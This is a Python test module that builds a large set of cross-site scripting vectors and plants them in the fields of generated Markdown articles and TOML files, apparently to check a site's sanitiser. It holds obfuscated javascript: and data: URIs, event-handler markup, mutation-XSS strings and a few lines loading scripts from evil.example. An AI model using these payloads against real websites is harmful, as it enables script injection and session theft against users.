"""Ways in which a text may try to run a script: kinds of vectors × spellings, and the fields that carry them.

The kinds are those that published collections test (filter evasion by
spelling, event handlers, elements that load or run, markup that changes its
meaning when it is parsed again). ``trap`` is what a vector tries to call.
"""

import json
from collections.abc import Iterator

from tests.story.newsroom import Newsroom

CALL = "trap()"

SCRIPT = f"javascript:{CALL}"
BREAKS = {"tab": "\t", "line feed": "\n", "return": "\r", "both": "\r\n"}
REFERENCES = {
    "decimal": "&#{0};",
    "decimal, bare": "&#{0}",
    "decimal, padded": "&#{0:07d};",
    "hexadecimal": "&#x{0:x};",
    "hexadecimal, capitals": "&#X{0:X};",
    "hexadecimal, padded": "&#x{0:06x};",
}
LEADS = [
    *map(chr, range(1, 0x21)),
    "\x7f",
    "\u0080",
    "\u00a0",
    "\u200b",
    "\u2028",
    "\u3000",
    "\ufeff",
    "\u00ad",
]
DATA = [
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idHJhcCgpIi8+",
    f"data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>{CALL}</script></html>",
    f"data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml' onclick='{CALL}'/>",
    f"data:,{CALL}",
    f"data:text/javascript,{CALL}",
    f"data:image/png,<script>{CALL}</script>",
    f"DaTa:TeXt/HtMl,<script>{CALL}</script>",
]
OTHER_SCHEMES = [
    *(
        "vbscript:",
        "livescript:",
        "mocha:",
        "jar:",
        "blob:https://t.example/",
        "filesystem:https://t.example/",
    ),
    *("view-source:", "about:", "chrome:", "file:///", "res:", "mhtml:", "ms-its:", "feed:javascript:"),
    *("javascript&colon;", "javascript&#58;", "javascript%3a", "javascript\\:", "javascript\uff1a"),
    *("java\u017fcript:", "\uff4aavascript:", "java\0script:", "java\u00adscript:", "java&shy;script:"),
    *(
        "java&Tab;script:",
        "java&NewLine;script:",
        "&Tab;javascript:",
        "&NewLine;javascript:",
        "javascript&Tab;:",
    ),
    *("java&#0;script:", "java&#xad;script:", "java%0ascript:", "java\\u0073cript:", "java/**/script:"),
]


def addresses() -> Iterator[str]:
    """Addresses that are a script to some reader, or to some browser."""
    yield from [
        SCRIPT, SCRIPT.upper().replace("TRAP", "trap"), f"JaVaScRiPt:{CALL}", f"javascript://%0a{CALL}",
        f"javascript://t.example/%0d{CALL}//", f"javascript:/*--></title></style>*/{CALL}",
        f"javascript:void({CALL})", f"javascript:'<svg onload={CALL}>'", "javascript:%74rap()",
        f"javascript:{CALL}//https://t.example/", f"https:javascript:{CALL}", f"//javascript:{CALL}",
        f"./javascript:{CALL}", f"?javascript:{CALL}", f"#javascript:{CALL}",
    ]  # fmt: skip
    yield from (f"{lead}{SCRIPT}" for lead in LEADS)
    yield from (f"{SCRIPT[:at]}{each}{SCRIPT[at:]}" for each in BREAKS.values() for at in (0, 1, 4, 10, 11))
    for form in REFERENCES.values():
        yield "".join(form.format(ord(each)) for each in "javascript:") + CALL
        yield form.format(ord("j")) + SCRIPT[1:]
        yield SCRIPT[:10] + form.format(ord(":")) + CALL
        yield from (SCRIPT[:4] + form.format(ord(each)) + SCRIPT[4:] for each in "\t\n\r")
        yield from (form.format(code) + SCRIPT for code in (1, 9, 10, 14, 27, 31, 32))
    yield from DATA
    yield from (f"{scheme}{CALL}" for scheme in OTHER_SCHEMES)


HANDLERS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onauxclick", "onbeforetoggle"),
    *("ontoggle", "onanimationstart", "onanimationend", "ontransitionend", "onbeforematch", "onbeforeinput"),
    *("onpointerenter", "onpointerrawupdate", "onwheel", "oncut", "oncopy", "onpaste", "ondrag", "oninvalid"),
    *("onscroll", "onscrollend", "onsecuritypolicyviolation", "onwebkitanimationstart", "onpageshow"),
    *("onhashchange", "onmessage", "onstart", "onfinish", "onloadedmetadata", "onslotchange", "onbegin"),
)
ELEMENTS = (
    *(
        "a",
        "img",
        "svg",
        "video",
        "audio",
        "details",
        "body",
        "div",
        "p",
        "marquee",
        "input",
        "button",
        "select",
    ),
    *("textarea", "form", "iframe", "object", "embed", "math", "style", "link", "table", "td", "bgsound"),
    *("frameset", "isindex", "keygen", "dialog", "custom-element", "source", "track", "picture", "summary"),
)
SPELLINGS = {
    "plain": "<{0} {1}={2} src=x tabindex=1 autofocus>x</{0}>",
    "quoted": '<{0} {1}="{2}" src="x" tabindex="1" autofocus>x</{0}>',
    "single": "<{0} {1}='{2}' src='x'>x</{0}>",
    "backticks": "<{0} src=`x` {1}=`{2}`>x</{0}>",
    "slashes": "<{0}/src=x/{1}={2}>x</{0}>",
    "lines": "<{0}\n src=x\n {1}\n=\n{2}>x</{0}>",
    "form feed": "<{0}\f{1}={2}\fsrc=x>x</{0}>",
    "junk": '<{0} "x" x="y>" {1}={2} src=x>x</{0}>',
    "glued": '<{0} title="x"{1}={2} src=x>x</{0}>',
    "twice": '<{0} src=x src=y {1}={2} {1}="">x</{0}>',
    "unclosed": "<{0} src=x {1}={2} ",
    "half closed": "<{0} src=x {1}={2}//",
    "double": "<<{0} src=x {1}={2}>x</{0}>",
    "in a tag": "<{0}<{0} src=x {1}={2}>",
    "null": "<{0}\0 src=x {1}={2}>x</{0}>",
    "references": "<{0} src=x {1}=&#116;rap&lpar;&#x29;>x</{0}>",
    "after text": 'x"><{0} src=x {1}={2}>',
    "after an attribute": "x' {1}={2} x='",
}
FIRE = "<img src=x onerror=trap()>"
PARSED_AGAIN = [
    f'<noscript><p title="</noscript>{FIRE}">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{FIRE}">',
    f'<svg></p><style><a id="</style>{FIRE}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{FIRE}",
    f'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>{FIRE}"></style></h1>',
    f'<svg><style><img title="</style>{FIRE}">',
    f'<math><annotation-xml encoding="text/html"><style><img title="</style>{FIRE}">',
    f'<svg><desc><template><style><a title="</style>{FIRE}">',
    f'<xmp><p title="</xmp>{FIRE}">',
    f'<listing>&lt;{FIRE[1:-1]}&gt;</listing>',
    f'<textarea><p title="</textarea>{FIRE}">',
    f'<title><p title="</title>{FIRE}">',
    f'<noembed><p title="</noembed>{FIRE}">',
    f'<noframes><p title="</noframes>{FIRE}">',
    f'<iframe><p title="</iframe>{FIRE}"></iframe>',
    f'<template><p title="</template>{FIRE}"></template>',
    "<select><option><style></option></select><svg/onload=trap()></style>",
    f"<table><tr><td><svg><desc><table><td>{FIRE}",
    f"<plaintext>{FIRE}",
    f"<!-->{FIRE}-->",
    f"<!--->{FIRE}-->",
    f"<!--!>{FIRE}",
    f"<!-- --!>{FIRE} -->",
    f"<!-- <!-- --> {FIRE} -->",
    f"<![CDATA[>{FIRE}]]>",
    f"<svg><![CDATA[><image href=]]>{FIRE}//]]></svg>",
    f"<?xml >{FIRE}?>",
    f"<?php echo '>{FIRE}' ?>",
    f"<!DOCTYPE x [<!ENTITY y '{FIRE}'>]>&y;",
    f"</p/{FIRE}>",
    f"</script>{FIRE}",
    f"<script>x</script{FIRE}",
    f"<p title='{FIRE}'>x</p>",
    f"<p title=\"`{FIRE}`\">x</p>",
    "<img alt=\"`><svg/onload=trap()>\">",
    "<a title='\ufdd2\" onclick=trap() x=\"'>x</a>",
    f'<a href="\ufdd31">x</a>\ufdd01\ufdd1{FIRE}\ufdd0/1\ufdd1',
    f"\ufdd40\ufdd5{FIRE}\ufdd4/0\ufdd5",
    '<p id="\ufdd2x" onclick="\ufdd2trap()">x</p>',
    '<p title="&#xFDD2;&quot; onclick=trap() x=&quot;">x</p>',
    '<a href="&#xFDD2;javascript:trap()">x</a>',
    '<img src="\ufdd2javascript:trap()" alt="&#xfdd2;x">',
    "<details x=`a` open ontoggle=trap()>`",
    "+ADw-script+AD4-trap()+ADw-/script+AD4-",
    "\u00bcscript\u00betrap()\u00bc/script\u00be",
    "\uff1cscript\uff1etrap()\uff1c/script\uff1e",
    "&lt;script&gt;trap()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;trap()&amp;lt;/script&amp;gt;",
    "\\<script>trap()\\</script>",
    "{{ trap() }}{% for x in () %}",
    "${trap()}{{constructor.constructor('trap()')()}}",
]  # fmt: skip
SPRUNG = ["<a href='java&Tab;script:trap()'>x</a>", "<p onmouseover=trap()>x</p>"]
"""Vectors that do run where nothing takes them away."""

LOADING = [
    "<script>trap()</script>",
    "<ScRiPt >trap()</sCrIpT>",
    "<script/x>trap()</script>",
    "<script\t>trap()</script\n>",
    "<script>trap()",
    "<script src=data:,trap()></script>",
    "<script src='//evil.example/x.js'></script>",
    "<script type=module>trap()</script>",
    "<script type=importmap>{}</script>",
    "<script type=speculationrules>{}</script>",
    "<svg><script>trap()</script></svg>",
    "<svg><script href=data:,trap() />",
    "<svg><script xlink:href=data:,trap() />",
    "<svg><a href=javascript:trap()><text x=0 y=15>x</text></a>",
    "<svg><a xlink:href='javascript:trap()'><rect width=99 height=99 /></a>",
    "<svg><a><animate attributeName=href values=javascript:trap() /><text y=15>x</text></a>",
    "<svg><a><set attributeName=href to=javascript:trap() /><text y=15>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>trap()</script>#x'/>",
    "<svg><animate onbegin=trap() attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.trap()</script>'></foreignObject>",
    "<svg><image href=x onerror=trap() />",
    "<math href=javascript:trap()>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:trap()>x</maction></math>",
    "<math><mi xlink:href='data:x,<script>trap()</script>'>x</mi></math>",
    "<iframe src=javascript:trap()></iframe>",
    "<iframe src=javascript:parent.trap()></iframe>",
    "<iframe srcdoc='<script>parent.trap()</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.trap()&gt;'></iframe>",
    "<iframe src='data:text/html,<script>trap()</script>'></iframe>",
    "<frameset><frame src=javascript:trap()></frameset>",
    "<object data=javascript:trap()></object>",
    "<object data='data:text/html,<script>trap()</script>'></object>",
    "<object type=text/html data=javascript:trap()><param name=src value=javascript:trap()></object>",
    "<embed src=javascript:trap()>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=trap() />'>",
    "<applet code=javascript:trap()></applet>",
    "<base href=javascript:trap()//><a href=x>x</a>",
    "<base href=https://evil.example/>",
    "<base target='x'><a href=https://t.example/>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:trap()'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>trap()</script>'>",
    "<meta http-equiv=Set-Cookie content='a=<script>trap()</script>'>",
    "<meta charset=utf-7>+ADw-script+AD4-trap()+ADw-/script+AD4-",
    "<link rel=stylesheet href=javascript:trap()>",
    "<link rel=import href='data:text/html,<script>trap()</script>'>",
    "<link rel=prefetch href=https://evil.example/>",
    "<link rel=modulepreload href=data:,trap()>",
    "<style>@import 'javascript:trap()';</style>",
    "<style>*{background:url(javascript:trap())}</style>",
    "<style onload=trap()></style>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=trap()>x</p>",
    "<p style='background:url(javascript:trap())'>x</p>",
    "<p style='width:expression(trap())'>x</p>",
    "<p style='-moz-binding:url(data:text/xml,x)'>x</p>",
    "<p style='behavior:url(#default#time2)' onbegin=trap()>x</p>",
    "<xss style='behavior:url(xss.htc)'>x</xss>",
    "<table background=javascript:trap()><td background=javascript:trap()>x</table>",
    "<body background=javascript:trap() onload=trap()>",
    "<bgsound src=javascript:trap()>",
    "<layer src=javascript:trap()></layer>",
    "<input type=image src=javascript:trap() onerror=trap()>",
    "<form action=javascript:trap()><button>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:trap()>x</button>",
    "<form><input type=submit formaction=javascript:trap() value=x></form>",
    "<form><input type=image src=x formaction=javascript:trap()></form>",
    "<isindex action=javascript:trap() type=image>",
    "<video src=x poster=javascript:trap()></video>",
    "<video><source onerror=trap() src=x></video>",
    "<audio src=javascript:trap() autoplay onerror=trap()></audio>",
    "<video controls><track default kind=subtitles src=javascript:trap() oncuechange=trap()></video>",
    "<picture><source srcset=javascript:trap()><img src=x onerror=trap()></picture>",
    "<img srcset='javascript:trap() 1x, data:text/html,x 2x' src=x>",
    "<img src=x srcset='x, javascript:trap() 2x'>",
    "<img lowsrc=javascript:trap() dynsrc=javascript:trap() longdesc=javascript:trap()>",
    "<img src=x usemap=#m><map name=m><area href=javascript:trap() coords=0,0,99,99></map>",
    "<a href=https://t.example/ ping=javascript:trap()>x</a>",
    "<a href=https://t.example/ target=_blank download=x onclick=trap()>x</a>",
    "<q cite=javascript:trap()>x</q><blockquote cite=javascript:trap()>x</blockquote>",
    "<del cite='java\tscript:trap()'>x</del><ins cite=data:text/html,x>x</ins>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=trap()>x</div>",
    "<button commandfor=x command=show-modal>x</button><dialog id=x oncommand=trap()>x</dialog>",
    "<input onfocus=trap() autofocus>",
    "<input accesskey=x onclick=trap() type=hidden>",
    "<p contenteditable oninput=trap() onfocus=trap() tabindex=0 autofocus>x</p>",
    "<p draggable=true ondragstart=trap()>x</p>",
    "<marquee onstart=trap()>x</marquee>",
    "<portal src=javascript:trap()></portal>",
    "<fencedframe src=javascript:trap()></fencedframe>",
    "<template shadowrootmode=open><script>trap()</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=trap()></template></div>",
    "<x-y is=script>trap()</x-y>",
    "<img name=body><form name=document id=location><input name=attributes></form>",
    "<a id=site name=defer href=javascript:trap()>x</a>",
    "<xml id=x><![CDATA[<img src=x onerror=trap()>]]></xml>",
    "<event-source src=data:text/event-stream,x>",
    "<?xml-stylesheet href=javascript:trap()?>",
    "<%<!--'%><script>trap();</script -->",
    "<comment><img src='</comment><img src=x onerror=trap())//'>",
    "[x](<javascript:trap()>)",
    '[x](https://t.example/"onclick="trap())',
    '[x](https://t.example/ "\\" onclick=\\"trap()")',
    "![x](x\" onerror=\"trap())",
    '![" onerror="trap()](x.png)',
    "![`\" onerror=trap() \"`](https://t.example/x.png)",
    "<https://t.example/\"onclick=trap()>",
    "```html\" onclick=\"trap()\nx\n```",
    "```<script>trap()</script>\nx\n```",
    "# x {#\"onclick=trap()}",
    "[^\"><script>trap()</script>]: x",
    "`<script>trap()</script>`",
    "$$<script>trap()</script>$$",
]  # fmt: skip


def markup() -> Iterator[str]:
    """HTML and Markdown that tries to run a script when it is shown or used."""
    yield from LOADING
    yield from PARSED_AGAIN
    spellings = list(SPELLINGS.values())
    for number, element in enumerate(ELEMENTS):
        for step in range(3):
            spelling = spellings[(number * 3 + step) % len(spellings)]
            yield spelling.format(element, HANDLERS[(number * 3 + step) % len(HANDLERS)], CALL)
    yield from (spelling.format("img", "onerror", CALL) for spelling in spellings)
    yield from (f"<x {handler}={CALL} tabindex=1 contenteditable autofocus>x</x>" for handler in HANDLERS)


def _text(value: str) -> str:
    """A value in front matter or TOML: NUL and lone marks are refused there, and are tried in the body."""
    return json.dumps(value.replace("\0", "\ufffd").replace("\x7f", "\ufffd"), ensure_ascii=False)


def article_of_markup(vector: str) -> str:
    """An article with a vector in every field that holds text."""
    text, line = _text(vector), " ".join(vector.split())
    return f"""---
title: {text}
summary: {text}
date: 2026-01-01
tags: [{text}]
authors: [{text}]
series: {text}
image_alt: {text}
events:
  - {{date: 2025-01-01, title: {text}, place: {text}, people: [{text}]}}
---

{vector}

Text {line} text.

- {line}

> {line}

| a | {line.replace("|", "")} |
|---|---|
| b | {line.replace("|", "")} |

## {line}

[{line}](https://t.example/ok "{line.replace('"', "'")}") and ![{line}](https://t.example/ok.png "{line}")

*{line}* came on 5 May 2025 <!-- event: title: {line}; place: {line} -->.[^n]

<div title='{line.replace("'", "&#39;")}'>

{vector}

</div>

[^n]: {line}, [{line}](https://n.example/{hash_of(vector)}), {line}, 2025-05-05
"""


def article_of_address(vector: str) -> str:
    """An article with an address wherever it may give one."""
    quoted = vector.replace('"', "&quot;")
    pointed = vector.replace("<", "%3C").replace(">", "%3E").replace("\n", "").replace("\r", "")
    line = " ".join(vector.split()) or vector
    return f"""---
title: An address
date: 2026-01-01
image: {_text(vector)}
link: {_text(vector)}
tags: [addresses]
---

[inline](<{pointed}>) [bare]({line.replace(" ", "%20")}) [defined][d] <{line}> ![image](<{pointed}>) {line}

<a href="{quoted}">raw</a> <a href='{quoted.replace("'", "&#39;")}'>raw</a>

<a href={line.replace(" ", "&#32;")}>x</a>

<A
 HREF = "{quoted}" title="x">raw</A> <img src="{quoted}" alt="x">

<img srcset="{quoted} 2x" src="/x.png" alt="x">

<video src="{quoted}" poster="{quoted}" controls></video> <audio src="{quoted}" controls></audio>

<picture><source srcset="{quoted}"><source src="{quoted}"><img src="/x.png" alt="x"></picture>

<q cite="{quoted}">x</q> <del cite="{quoted}">x</del> <blockquote cite="{quoted}">x</blockquote>

<a href="https://t.example/" ping="{quoted}">x</a>

<form action="{quoted}"><button formaction="{quoted}">x</button></form>

<iframe src="{quoted}"></iframe> <object data="{quoted}"></object> <embed src="{quoted}">

<svg><a href="{quoted}"><text y=15>x</text></a><use xlink:href="{quoted}"/></svg>

<table background="{quoted}"><tr><td>x</td></tr></table>

<base href="{quoted}"><link href="{quoted}" rel=stylesheet>

Noted.[^1] Noted.[^2] Noted.[^3] Noted.[^4]

[d]: <{pointed}>
[^1]: [A title](<{pointed}>), Somebody, 2025-05-05
[^2]: <a href="{quoted}">A title</a>, Somebody, 2025-05-05
[^3]: A title, Somebody, {line}, 2025-05-05
[^4]: Title: A title; URL: {line}; Publisher: Somebody; Published: 2025-05-05
"""


def hash_of(text: str) -> int:
    """A number for a vector, the same in every run."""
    return int.from_bytes(text.encode("utf-8", "surrogatepass"), "big") % 999_983


def corrections(vectors: list[str]) -> dict[str, str]:
    """The editors' files, with vectors in all that they say of sources, publishers and terms."""
    sources = publishers = tags = ""
    for number, vector in enumerate(vectors):
        text, url = _text(vector), f"https://n.example/{hash_of(vector)}"
        sources += f'[[source]]\nurl = "{url}"\ntitle = {text}\nauthor = {text}\nnote = {text}\n'
        publishers += f'[{_text(f"{vector} {number}")}]\ndomains = ["p{number}.example"]\nnames = [{text}]\n'
        tags += f"[[tags]]\nname = {_text(f'{vector} {number}')}\naliases = [{text}]\ndescription = {text}\n"
    return {"content/sources.toml": sources, "content/publishers.toml": publishers, "content/tags.toml": tags}


def fill(newsroom: Newsroom, *, every: int = 1) -> int:
    """Puts vectors into a newsroom, every so many of them one; how many there are."""
    pages = [
        *map(article_of_markup, list(markup())[::every]),
        *map(article_of_address, list(addresses())[::every]),
    ]
    for number, text in enumerate(pages):
        newsroom.has(f"content/v{number}.md", text.encode("utf-8", "surrogatepass"))
    return len(pages)
